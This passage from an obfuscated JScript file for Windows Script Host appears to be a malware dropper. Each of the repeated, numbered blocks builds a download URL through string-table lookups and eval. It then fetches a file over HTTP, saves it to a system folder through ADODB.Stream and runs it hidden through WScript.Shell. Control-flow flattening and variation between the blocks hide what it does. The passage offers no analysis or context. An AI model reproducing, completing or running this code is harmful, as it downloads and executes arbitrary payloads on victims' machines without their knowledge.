    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p25(_0x5985bf) {
    return parts25[_0x5985bf];
}
var host25 = eval('p25(1) + p25(6);'), url25 = eval('\x27' + p25(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x11e)), shell25 = new ActiveXObject(p25(0x5)), target25 = shell25[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p25(0x2), xhr25 = new ActiveXObject(p25(0x3));
xhr25[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url25, ![]), xhr25[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr25[a0_0x206b7f(0x181)]();
if (xhr25[a0_0x206b7f(0x180)] == 0xc8) {
    var RsEolw = a0_0x206b7f(0x133)[a0_0x206b7f(0x17a)]('|'), ZtsAXr = 0x0;
    while (!![]) {
        switch (RsEolw[ZtsAXr++]) {
        case '0':
            stream25[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '1':
            stream25[a0_0x206b7f(0x17d)](xhr25[a0_0x206b7f(0x1a8)]);
            continue;
        case '2':
            stream25[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '3':
            stream25[a0_0x206b7f(0x197)]();
            continue;
        case '4':
            stream25[a0_0x206b7f(0x167)](target25, 0x2);
            continue;
        case '5':
            stream25[a0_0x206b7f(0x178)]();
            continue;
        case '6':
            var stream25 = new ActiveXObject(p25(0x4));
            continue;
        case '7':
            shell25[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target25 + '\x22', 0x0, ![]);
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts26 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p26(_0x55fb76) {
    return parts26[_0x55fb76];
}
var host26 = eval('var _0x4ba6be = a0_0x206b7f, _0x32a831 = {\n        \'gZOSS\': function (_0x32775e, _0xa37cb3) {\n            return _0x32775e(_0xa37cb3);\n        }\n    };_0x32a831[_0x4ba6be(377)](p26, 1) + p26(6);'), url26 = eval('\x27' + p26(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x156)), shell26 = new ActiveXObject(p26(0x5)), target26 = shell26[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p26(0x2), xhr26 = new ActiveXObject(p26(0x3));
xhr26[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url26, ![]), xhr26[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr26[a0_0x206b7f(0x181)]();
if (xhr26[a0_0x206b7f(0x180)] == 0xc8) {
    var SkDmQE = a0_0x206b7f(0x157)[a0_0x206b7f(0x17a)]('|'), cMzHAG = 0x0;
    while (!![]) {
        switch (SkDmQE[cMzHAG++]) {
        case '0':
            stream26[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '1':
            stream26[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '2':
            shell26[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target26 + '\x22', 0x0, ![]);
            continue;
        case '3':
            stream26[a0_0x206b7f(0x178)]();
            continue;
        case '4':
            var stream26 = new ActiveXObject(p26(0x4));
            continue;
        case '5':
            stream26[a0_0x206b7f(0x17d)](xhr26[a0_0x206b7f(0x1a8)]);
            continue;
        case '6':
            stream26[a0_0x206b7f(0x197)]();
            continue;
        case '7':
            stream26[a0_0x206b7f(0x167)](target26, 0x2);
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts27 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p27(_0x4b90b3) {
    return parts27[_0x4b90b3];
}
var host27 = eval('var _0x5263d4 = a0_0x206b7f, _0x4f05de = {\n        \'DshXJ\': function (_0x31b50a, _0x115743) {\n            return _0x31b50a(_0x115743);\n        }\n    };_0x4f05de[_0x5263d4(302)](p27, 1) + p27(6);'), url27 = eval('\x27' + p27(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x192)), shell27 = new ActiveXObject(p27(0x5)), target27 = shell27[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p27(0x2), xhr27 = new ActiveXObject(p27(0x3));
xhr27[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url27, ![]), xhr27[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr27[a0_0x206b7f(0x181)]();
if (xhr27[a0_0x206b7f(0x180)] == 0xc8) {
    var jYismk = a0_0x206b7f(0x15f)[a0_0x206b7f(0x17a)]('|'), uMIlPd = 0x0;
    while (!![]) {
        switch (jYismk[uMIlPd++]) {
        case '0':
            stream27[a0_0x206b7f(0x17d)](xhr27[a0_0x206b7f(0x1a8)]);
            continue;
        case '1':
            stream27[a0_0x206b7f(0x197)]();
            continue;
        case '2':
            stream27[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '3':
            stream27[a0_0x206b7f(0x178)]();
            continue;
        case '4':
            stream27[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '5':
            shell27[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target27 + '\x22', 0x0, ![]);
            continue;
        case '6':
            var stream27 = new ActiveXObject(p27(0x4));
            continue;
        case '7':
            stream27[a0_0x206b7f(0x167)](target27, 0x2);
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts28 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p28(_0x3a8ea7) {
    return parts28[_0x3a8ea7];
}
var host28 = eval('var _0x163980 = a0_0x206b7f, _0x122159 = {\n        \'pQGQA\': function (_0x383b7d, _0x1b140b) {\n            return _0x383b7d(_0x1b140b);\n        }\n    };p28(1) + _0x122159[_0x163980(295)](p28, 6);'), url28 = eval('\x27' + p28(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x160)), shell28 = new ActiveXObject(p28(0x5)), target28 = shell28[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p28(0x2), xhr28 = new ActiveXObject(p28(0x3));
xhr28[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url28, ![]), xhr28[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr28[a0_0x206b7f(0x181)]();
if (xhr28[a0_0x206b7f(0x180)] == 0xc8) {
    var stream28 = new ActiveXObject(p28(0x4));
    stream28[a0_0x206b7f(0x178)](), stream28[a0_0x206b7f(0x194)] = 0x1, stream28[a0_0x206b7f(0x17d)](xhr28[a0_0x206b7f(0x1a8)]), stream28[a0_0x206b7f(0x131)] = 0x0, stream28[a0_0x206b7f(0x167)](target28, 0x2), stream28[a0_0x206b7f(0x197)](), shell28[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target28 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts29 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p29(_0x16a8d1) {
    return parts29[_0x16a8d1];
}
var host29 = eval('var _0x523a1c = a0_0x206b7f, _0xd5c6cf = {\n        \'zJYaU\': function (_0x292998, _0x58fd26) {\n            return _0x292998 + _0x58fd26;\n        },\n        \'DmOVn\': function (_0x3dbf33, _0x55e380) {\n            return _0x3dbf33(_0x55e380);\n        },\n        \'ewWuZ\': function (_0x33c4db, _0x44727a) {\n            return _0x33c4db(_0x44727a);\n        }\n    };_0xd5c6cf[_0x523a1c(339)](_0xd5c6cf[_0x523a1c(422)](p29, 1), _0xd5c6cf[_0x523a1c(291)](p29, 6));'), url29 = eval('\x27' + p29(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x170)), shell29 = new ActiveXObject(p29(0x5)), target29 = shell29[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p29(0x2), xhr29 = new ActiveXObject(p29(0x3));
xhr29[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url29, ![]), xhr29[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr29[a0_0x206b7f(0x181)]();
if (xhr29[a0_0x206b7f(0x180)] == 0xc8) {
    var LusYYN = a0_0x206b7f(0x189)[a0_0x206b7f(0x17a)]('|'), eTQMZu = 0x0;
    while (!![]) {
        switch (LusYYN[eTQMZu++]) {
        case '0':
            shell29[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target29 + '\x22', 0x0, ![]);
            continue;
        case '1':
            stream29[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '2':
            var stream29 = new ActiveXObject(p29(0x4));
            continue;
        case '3':
            stream29[a0_0x206b7f(0x197)]();
            continue;
        case '4':
            stream29[a0_0x206b7f(0x167)](target29, 0x2);
            continue;
        case '5':
            stream29[a0_0x206b7f(0x178)]();
            continue;
        case '6':
            stream29[a0_0x206b7f(0x17d)](xhr29[a0_0x206b7f(0x1a8)]);
            continue;
        case '7':
            stream29[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts30 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p30(_0x532d24) {
    return parts30[_0x532d24];
}
var host30 = eval('var _0x9c1192 = a0_0x206b7f, _0x82ddd = {\n        \'QXuFk\': function (_0x4ec762, _0x4b78ed) {\n            return _0x4ec762(_0x4b78ed);\n        }\n    };p30(1) + _0x82ddd[_0x9c1192(360)](p30, 6);'), url30 = eval('\x27' + p30(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x1a1)), shell30 = new ActiveXObject(p30(0x5)), target30 = shell30[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p30(0x2), xhr30 = new ActiveXObject(p30(0x3));
xhr30[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url30, ![]), xhr30[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr30[a0_0x206b7f(0x181)]();
if (xhr30[a0_0x206b7f(0x180)] == 0xc8) {
    var lGUGLY = a0_0x206b7f(0x172)[a0_0x206b7f(0x17a)]('|'), yFFpDY = 0x0;
    while (!![]) {
        switch (lGUGLY[yFFpDY++]) {
        case '0':
            stream30[a0_0x206b7f(0x197)]();
            continue;
        case '1':
            stream30[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '2':
            stream30[a0_0x206b7f(0x167)](target30, 0x2);
            continue;
        case '3':
            stream30[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '4':
            var stream30 = new ActiveXObject(p30(0x4));
            continue;
        case '5':
            stream30[a0_0x206b7f(0x178)]();
            continue;
        case '6':
            shell30[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target30 + '\x22', 0x0, ![]);
            continue;
        case '7':
            stream30[a0_0x206b7f(0x17d)](xhr30[a0_0x206b7f(0x1a8)]);
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts31 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p31(_0x224251) {
    return parts31[_0x224251];
}
var host31 = eval('var _0x2db9dc = a0_0x206b7f, _0x752e6a = {\n        \'PkYWF\': function (_0x23c988, _0x42cee7) {\n            return _0x23c988(_0x42cee7);\n        }\n    };p31(1) + _0x752e6a[_0x2db9dc(340)](p31, 6);'), url31 = eval('\x27' + p31(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x11a)), shell31 = new ActiveXObject(p31(0x5)), target31 = shell31[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p31(0x2), xhr31 = new ActiveXObject(p31(0x3));
xhr31[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url31, ![]), xhr31[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr31[a0_0x206b7f(0x181)]();
if (xhr31[a0_0x206b7f(0x180)] == 0xc8) {
    var stream31 = new ActiveXObject(p31(0x4));
    stream31[a0_0x206b7f(0x178)](), stream31[a0_0x206b7f(0x194)] = 0x1, stream31[a0_0x206b7f(0x17d)](xhr31[a0_0x206b7f(0x1a8)]), stream31[a0_0x206b7f(0x131)] = 0x0, stream31[a0_0x206b7f(0x167)](target31, 0x2), stream31[a0_0x206b7f(0x197)](), shell31[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target31 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts32 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p32(_0x1c90ed) {
    return parts32[_0x1c90ed];
}
var host32 = eval('var _0x5edae2 = a0_0x206b7f, _0x2c7627 = {\n        \'jKCxo\': function (_0x3a2ab0, _0x4f0654) {\n            return _0x3a2ab0 + _0x4f0654;\n        },\n        \'McrRH\': function (_0x19e03b, _0x429876) {\n            return _0x19e03b(_0x429876);\n        }\n    };_0x2c7627[_0x5edae2(303)](p32(1), _0x2c7627[_0x5edae2(353)](p32, 6));'), url32 = eval('\x27' + p32(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x146)), shell32 = new ActiveXObject(p32(0x5)), target32 = shell32[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p32(0x2), xhr32 = new ActiveXObject(p32(0x3));
xhr32[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url32, ![]), xhr32[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr32[a0_0x206b7f(0x181)]();
if (xhr32[a0_0x206b7f(0x180)] == 0xc8) {
    var stream32 = new ActiveXObject(p32(0x4));
    stream32[a0_0x206b7f(0x178)](), stream32[a0_0x206b7f(0x194)] = 0x1, stream32[a0_0x206b7f(0x17d)](xhr32[a0_0x206b7f(0x1a8)]), stream32[a0_0x206b7f(0x131)] = 0x0, stream32[a0_0x206b7f(0x167)](target32, 0x2), stream32[a0_0x206b7f(0x197)](), shell32[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target32 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts33 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p33(_0x1aacbf) {
    return parts33[_0x1aacbf];
}
var host33 = eval('var _0x4bba16 = a0_0x206b7f, _0x460461 = {\n        \'Yaxvh\': function (_0x52c858, _0x3646fa) {\n            return _0x52c858(_0x3646fa);\n        }\n    };_0x460461[_0x4bba16(380)](p33, 1) + _0x460461[_0x4bba16(380)](p33, 6);'), url33 = eval('\x27' + p33(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x18b)), shell33 = new ActiveXObject(p33(0x5)), target33 = shell33[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p33(0x2), xhr33 = new ActiveXObject(p33(0x3));
xhr33[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url33, ![]), xhr33[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr33[a0_0x206b7f(0x181)]();
if (xhr33[a0_0x206b7f(0x180)] == 0xc8) {
    var stream33 = new ActiveXObject(p33(0x4));
    stream33[a0_0x206b7f(0x178)](), stream33[a0_0x206b7f(0x194)] = 0x1, stream33[a0_0x206b7f(0x17d)](xhr33[a0_0x206b7f(0x1a8)]), stream33[a0_0x206b7f(0x131)] = 0x0, stream33[a0_0x206b7f(0x167)](target33, 0x2), stream33[a0_0x206b7f(0x197)](), shell33[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target33 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts34 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p34(_0x126553) {
    return parts34[_0x126553];
}
var host34 = eval('var _0x2c4c09 = a0_0x206b7f, _0x5515d3 = {\n        \'gknKw\': function (_0x1b24c8, _0x3638d1) {\n            return _0x1b24c8 + _0x3638d1;\n        },\n        \'ltTtF\': function (_0xe242d1, _0x5861a0) {\n            return _0xe242d1(_0x5861a0);\n        },\n        \'RPMGN\': function (_0x3d26bc, _0x459355) {\n            return _0x3d26bc(_0x459355);\n        }\n    };_0x5515d3[_0x2c4c09(373)](_0x5515d3[_0x2c4c09(357)](p34, 1), _0x5515d3[_0x2c4c09(363)](p34, 6));'), url34 = eval('\x27' + p34(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x183)), shell34 = new ActiveXObject(p34(0x5)), target34 = shell34[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p34(0x2), xhr34 = new ActiveXObject(p34(0x3));
xhr34[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url34, ![]), xhr34[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr34[a0_0x206b7f(0x181)]();
if (xhr34[a0_0x206b7f(0x180)] == 0xc8) {
    var mOxRLd = a0_0x206b7f(0x163)[a0_0x206b7f(0x17a)]('|'), dKBoxS = 0x0;
    while (!![]) {
        switch (mOxRLd[dKBoxS++]) {
        case '0':
            var stream34 = new ActiveXObject(p34(0x4));
            continue;
        case '1':
            stream34[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '2':
            stream34[a0_0x206b7f(0x197)]();
            continue;
        case '3':
            shell34[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target34 + '\x22', 0x0, ![]);
            continue;
        case '4':
            stream34[a0_0x206b7f(0x17d)](xhr34[a0_0x206b7f(0x1a8)]);
            continue;
        case '5':
            stream34[a0_0x206b7f(0x178)]();
            continue;
        case '6':
            stream34[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '7':
            stream34[a0_0x206b7f(0x167)](target34, 0x2);
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts35 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p35(_0x45f778) {
    return parts35[_0x45f778];
}
var host35 = eval('var _0x80d5ff = a0_0x206b7f, _0x52133f = {\n        \'cchYy\': function (_0xf15a9b, _0x11ea5e) {\n            return _0xf15a9b(_0x11ea5e);\n        }\n    };p35(1) + _0x52133f[_0x80d5ff(361)](p35, 6);'), url35 = eval('\x27' + p35(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x151)), shell35 = new ActiveXObject(p35(0x5)), target35 = shell35[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p35(0x2), xhr35 = new ActiveXObject(p35(0x3));
xhr35[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url35, ![]), xhr35[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr35[a0_0x206b7f(0x181)]();
if (xhr35[a0_0x206b7f(0x180)] == 0xc8) {
    var stream35 = new ActiveXObject(p35(0x4));
    stream35[a0_0x206b7f(0x178)](), stream35[a0_0x206b7f(0x194)] = 0x1, stream35[a0_0x206b7f(0x17d)](xhr35[a0_0x206b7f(0x1a8)]), stream35[a0_0x206b7f(0x131)] = 0x0, stream35[a0_0x206b7f(0x167)](target35, 0x2), stream35[a0_0x206b7f(0x197)](), shell35[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target35 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts36 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p36(_0x9ffcdf) {
    return parts36[_0x9ffcdf];
}
var host36 = eval('var _0x4536c5 = a0_0x206b7f, _0x5e7ec0 = {\n        \'qXwbr\': function (_0x3ddaaa, _0x14eb40) {\n            return _0x3ddaaa(_0x14eb40);\n        }\n    };p36(1) + _0x5e7ec0[_0x4536c5(383)](p36, 6);'), url36 = eval('\x27' + p36(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x136)), shell36 = new ActiveXObject(p36(0x5)), target36 = shell36[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p36(0x2), xhr36 = new ActiveXObject(p36(0x3));
xhr36[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url36, ![]), xhr36[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr36[a0_0x206b7f(0x181)]();
if (xhr36[a0_0x206b7f(0x180)] == 0xc8) {
    var aHQrgL = a0_0x206b7f(0x19c)[a0_0x206b7f(0x17a)]('|'), KujWvf = 0x0;
    while (!![]) {
        switch (aHQrgL[KujWvf++]) {
        case '0':
            stream36[a0_0x206b7f(0x167)](target36, 0x2);
            continue;
        case '1':
            var stream36 = new ActiveXObject(p36(0x4));
            continue;
        case '2':
            stream36[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '3':
            stream36[a0_0x206b7f(0x197)]();
            continue;
        case '4':
            stream36[a0_0x206b7f(0x178)]();
            continue;
        case '5':
            shell36[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target36 + '\x22', 0x0, ![]);
            continue;
        case '6':
            stream36[a0_0x206b7f(0x17d)](xhr36[a0_0x206b7f(0x1a8)]);
            continue;
        case '7':
            stream36[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts37 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p37(_0xca4b40) {
    return parts37[_0xca4b40];
}
var host37 = eval('p37(1) + p37(6);'), url37 = eval('\x27' + p37(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x18c)), shell37 = new ActiveXObject(p37(0x5)), target37 = shell37[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p37(0x2), xhr37 = new ActiveXObject(p37(0x3));
xhr37[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url37, ![]), xhr37[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr37[a0_0x206b7f(0x181)]();
if (xhr37[a0_0x206b7f(0x180)] == 0xc8) {
    var LEbfwO = a0_0x206b7f(0x19e)[a0_0x206b7f(0x17a)]('|'), OjcNBE = 0x0;
    while (!![]) {
        switch (LEbfwO[OjcNBE++]) {
        case '0':
            shell37[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target37 + '\x22', 0x0, ![]);
            continue;
        case '1':
            stream37[a0_0x206b7f(0x17d)](xhr37[a0_0x206b7f(0x1a8)]);
            continue;
        case '2':
            stream37[a0_0x206b7f(0x167)](target37, 0x2);
            continue;
        case '3':
            stream37[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '4':
            stream37[a0_0x206b7f(0x197)]();
            continue;
        case '5':
            var stream37 = new ActiveXObject(p37(0x4));
            continue;
        case '6':
            stream37[a0_0x206b7f(0x178)]();
            continue;
        case '7':
            stream37[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts38 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p38(_0x13c47e) {
    return parts38[_0x13c47e];
}
var host38 = eval('var _0x552744 = a0_0x206b7f, _0x3f0f82 = {\n        \'wxfjH\': function (_0xdbdc27, _0x542440) {\n            return _0xdbdc27 + _0x542440;\n        },\n        \'Wikag\': function (_0x209e0a, _0x580ad9) {\n            return _0x209e0a(_0x580ad9);\n        },\n        \'MfjCk\': function (_0x224d63, _0x1baf43) {\n            return _0x224d63(_0x1baf43);\n        }\n    };_0x3f0f82[_0x552744(379)](_0x3f0f82[_0x552744(410)](p38, 1), _0x3f0f82[_0x552744(313)](p38, 6));'), url38 = eval('\x27' + p38(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x188)), shell38 = new ActiveXObject(p38(0x5)), target38 = shell38[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p38(0x2), xhr38 = new ActiveXObject(p38(0x3));
xhr38[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url38, ![]), xhr38[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr38[a0_0x206b7f(0x181)]();
if (xhr38[a0_0x206b7f(0x180)] == 0xc8) {
    var stream38 = new ActiveXObject(p38(0x4));
    stream38[a0_0x206b7f(0x178)](), stream38[a0_0x206b7f(0x194)] = 0x1, stream38[a0_0x206b7f(0x17d)](xhr38[a0_0x206b7f(0x1a8)]), stream38[a0_0x206b7f(0x131)] = 0x0, stream38[a0_0x206b7f(0x167)](target38, 0x2), stream38[a0_0x206b7f(0x197)](), shell38[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target38 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts39 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p39(_0x8c5126) {
    return parts39[_0x8c5126];
}
var host39 = eval('var _0x346756 = a0_0x206b7f, _0xde109 = {\n        \'Gccty\': function (_0x532724, _0x3ab846) {\n            return _0x532724 + _0x3ab846;\n        },\n        \'FaMvS\': function (_0xa3da57, _0x12088e) {\n            return _0xa3da57(_0x12088e);\n        }\n    };_0xde109[_0x346756(365)](p39(1), _0xde109[_0x346756(344)](p39, 6));'), url39 = eval('\x27' + p39(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x1b0)), shell39 = new ActiveXObject(p39(0x5)), target39 = shell39[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p39(0x2), xhr39 = new ActiveXObject(p39(0x3));
xhr39[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url39, ![]), xhr39[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr39[a0_0x206b7f(0x181)]();
if (xhr39[a0_0x206b7f(0x180)] == 0xc8) {
    var stream39 = new ActiveXObject(p39(0x4));
